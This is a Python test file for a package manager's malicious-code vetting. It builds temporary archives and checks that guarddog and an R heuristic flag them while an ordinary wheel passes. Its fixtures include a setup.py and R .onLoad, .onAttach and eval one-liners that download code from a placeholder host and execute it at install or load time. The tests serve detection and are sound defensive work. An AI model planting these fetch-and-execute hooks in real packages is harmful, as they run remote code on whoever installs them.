"""Malicious code: guarddog for real on built archives, and the platform's R heuristic."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
import time
import zipfile
from pathlib import Path

import pytest

from package_manager.model import ResolvedPackage, combine
from package_manager.vetting import (
    CHECKS,
    ProvenanceLedger,
    VettingContext,
    vet_package,
    vet_packages,
)
from package_manager.vetting.malicious import (
    R_SCANNER,
    check_malicious,
    check_malicious_batch,
    check_r_archive,
    judge_guarddog,
    scan_archive,
    scan_archives,
)
from package_manager.vetting.policy import load_policy

POLICY = load_policy()

FETCH_AND_EXEC_SETUP = """\
import urllib.request
from setuptools import setup

payload = urllib.request.urlopen("https://payload.example.invalid/stage2.py").read()
exec(payload)

setup(name="{name}", version="1.0")
"""

R_ONLOAD = """\
.onLoad <- function(libname, pkgname) {
  script <- tempfile(fileext = ".R")
  download.file("https://payload.example.invalid/stage2.R", script, quiet = TRUE)
  source(script)
}
"""

R_ORDINARY = """\
# Fetching is the package's purpose, on request: not at load time.
fetch_table <- function(url) {
  destination <- tempfile()
  utils::download.file(url, destination)
  read.csv(destination)
}
run_script <- function(path) source(path)
"""


def _add(tf: tarfile.TarFile, name: str, text: str) -> None:
    data = text.encode()
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mtime = 1_700_000_000
    tf.addfile(info, io.BytesIO(data))


def fetch_and_exec_sdist(folder: Path, name: str = "hdh_fetcher") -> Path:
    path = folder / f"{name}-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as tf:
        _add(tf, f"{name}-1.0/setup.py", FETCH_AND_EXEC_SETUP.format(name=name))
        _add(tf, f"{name}-1.0/PKG-INFO", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
    return path


def ordinary_wheel(folder: Path, name: str = "hdh_ordinary") -> Path:
    path = folder / f"{name}-1.0-py3-none-any.whl"
    files = {
        f"{name}/__init__.py": '"""Averages."""\n\n\ndef mean(values):\n    return sum(values) / len(values)\n',
        f"{name}-1.0.dist-info/METADATA": (
            f"Metadata-Version: 2.4\nName: {name}\nVersion: 1.0\nLicense-Expression: MIT\n\n"
        ),
        f"{name}-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(
        f"{n},sha256={hashlib.sha256(c.encode()).hexdigest()},{len(c)}\n" for n, c in files.items()
    )
    files[f"{name}-1.0.dist-info/RECORD"] = record + f"{name}-1.0.dist-info/RECORD,,\n"
    with zipfile.ZipFile(path, "w") as zf:
        for member, content in files.items():
            zf.writestr(member, content)
    return path


def r_package(folder: Path, name: str, r_code: dict[str, str]) -> Path:
    path = folder / f"{name}_1.0-1.tar.gz"
    with tarfile.open(path, "w:gz") as tf:
        _add(
            tf,
            f"{name}/DESCRIPTION",
            f"Package: {name}\nVersion: 1.0-1\nLicense: MIT + file LICENSE\n",
        )
        _add(tf, f"{name}/NAMESPACE", "export(fetch_table)\n")
        for file, code in r_code.items():
            _add(tf, f"{name}/R/{file}", code)
    return path


def resolved(
    ecosystem: str, name: str, archive: Path, license: str | None = None
) -> ResolvedPackage:
    return ResolvedPackage(
        ecosystem=ecosystem,  # type: ignore[arg-type]
        name=name,
        version="1.0-1" if ecosystem == "cran" else "1.0",
        filename=archive.name,
        url=f"http://upstream.invalid/{archive.name}",
        sha256=hashlib.sha256(archive.read_bytes()).hexdigest(),
        license=license,
    )


@pytest.mark.slow
def test_guarddog_flags_the_fetch_and_exec_sdist_not_the_ordinary_wheel(tmp_path: Path) -> None:
    evil, wheel = fetch_and_exec_sdist(tmp_path), ordinary_wheel(tmp_path)

    flagged = check_malicious(resolved("pypi", "hdh_fetcher", evil), evil, POLICY)
    assert flagged.status == "needs_review"
    assert flagged.evidence["scanner"].startswith("guarddog ")
    rules = {f["rule"] for f in flagged.evidence["findings"]}
    assert "threat-process-download-exec" in rules
    finding = next(
        f for f in flagged.evidence["findings"] if f["rule"] == "threat-process-download-exec"
    )
    assert (finding["file"], finding["line"]) == ("hdh_fetcher-1.0/setup.py", 4)
    assert finding["message"]

    clean = check_malicious(resolved("pypi", "hdh_ordinary", wheel), wheel, POLICY)
    assert clean.status == "passed", clean.evidence


@pytest.mark.slow
def test_the_batch_scans_each_archive_alone_and_matches_the_cli(tmp_path: Path) -> None:
    """A folder scan would stop at max_hits and drop repeated code across packages: not here."""
    archives = [
        fetch_and_exec_sdist(tmp_path, "hdh_fetcher"),
        fetch_and_exec_sdist(tmp_path, "hdh_fetcher_twin"),  # identical code, another package
        ordinary_wheel(tmp_path),
    ]
    started = time.monotonic()
    single = {a: scan_archive(a) for a in archives}
    per_archive = time.monotonic() - started
    started = time.monotonic()
    batch = scan_archives(archives)
    batched = time.monotonic() - started
    print(
        f"\nguarddog on {len(archives)} archives: {per_archive:.2f}s one by one, {batched:.2f}s batched"
    )

    def findings(report: dict) -> set[tuple[str, str]]:
        return {
            (rule, hit["location"])
            for rule, hits in report["results"].items()
            for hit in hits or []
        }

    for archive in archives:
        assert findings(batch[archive]) == findings(single[archive]), archive.name
        assert (
            judge_guarddog(batch[archive], POLICY).status
            == judge_guarddog(single[archive], POLICY).status
        )
    statuses = [judge_guarddog(batch[a], POLICY).status for a in archives]
    assert statuses == ["needs_review", "needs_review", "passed"]


@pytest.mark.slow
def test_guarddog_failing_is_not_run(tmp_path: Path) -> None:
    broken = tmp_path / "hdh_broken-1.0.tar.gz"
    broken.write_bytes(b"this is not a gzip archive")
    package = resolved("pypi", "hdh_broken", broken)
    single = check_malicious(package, broken, POLICY)
    assert single.status == "not_run"
    assert "guarddog" in single.reasons[0]
    batch = check_malicious_batch([(package, broken)], POLICY)[package.key]
    assert batch.status == "not_run"
    assert "guarddog" in batch.reasons[0]


def test_r_download_and_source_at_load_time_needs_review(tmp_path: Path) -> None:
    archive = r_package(tmp_path, "hdhloader", {"zzz.R": R_ONLOAD})
    result = check_r_archive(archive)
    assert result.status == "needs_review"
    assert result.evidence["scanner"] == R_SCANNER
    assert "not guarddog" in result.evidence["scanner"]
    by_line = {(f["file"], f["line"]): f for f in result.evidence["findings"]}
    assert by_line[("hdhloader/R/zzz.R", 3)]["rule"] == "r-download"
    assert by_line[("hdhloader/R/zzz.R", 4)]["rule"] == "r-execute"
    assert ".onLoad" in by_line[("hdhloader/R/zzz.R", 4)]["message"]


@pytest.mark.parametrize(
    "code",
    [
        'eval(parse(text = readLines("https://payload.example.invalid/x.R")))\n',  # top level
        '.onAttach <- function(...) source("https://payload.example.invalid/x.R")\n',
    ],
)
def test_other_r_download_and_execute_forms(tmp_path: Path, code: str) -> None:
    assert check_r_archive(r_package(tmp_path, "hdhodd", {"a.R": code})).status == "needs_review"


def test_ordinary_r_code_passes(tmp_path: Path) -> None:
    archive = r_package(tmp_path, "hdhtables", {"fetch.R": R_ORDINARY})
    result = check_r_archive(archive)
    assert result.status == "passed", result.evidence
    assert result.evidence["files_scanned"] == 1


@pytest.mark.slow
def test_vet_packages_runs_every_check_on_a_closure(tmp_path: Path) -> None:
    evil, wheel = fetch_and_exec_sdist(tmp_path), ordinary_wheel(tmp_path)
    r_evil = r_package(tmp_path, "hdhloader", {"zzz.R": R_ONLOAD})
    items = [
        (resolved("pypi", "hdh_fetcher", evil, "MIT"), evil),
        (resolved("pypi", "hdh_ordinary", wheel), wheel),  # licence read from the wheel
        (resolved("cran", "hdhloader", r_evil), r_evil),
    ]
    ctx = VettingContext(policy=POLICY, osv_source=None, ledger=ProvenanceLedger(tmp_path / "l.db"))
    results = vet_packages(items, ctx)
    assert set(results) == {p.key for p, _ in items}
    for checks in results.values():
        assert [c.check for c in checks] == list(CHECKS)
    status = {key[1]: {c.check: c.status for c in checks} for key, checks in results.items()}
    assert status["hdh-fetcher"]["malicious_code"] == "needs_review"
    assert status["hdh-ordinary"] == {
        "licence": "passed",
        "vulnerabilities": "not_run",  # no database configured: never a pass
        "malicious_code": "passed",
        "typosquatting": "passed",
        "provenance": "passed",
    }
    assert status["hdhloader"]["malicious_code"] == "needs_review"
    assert status["hdhloader"]["licence"] == "passed"  # MIT + file LICENSE, from DESCRIPTION
    assert all(combine(checks) == "needs_review" for checks in results.values())
    json.dumps({str(k): [c.to_json() for c in v] for k, v in results.items()})  # storable as is

    single = vet_package(items[1][0], wheel, ctx)
    assert [(c.check, c.status) for c in single] == [
        (c.check, c.status) for c in results[items[1][0].key]
    ]
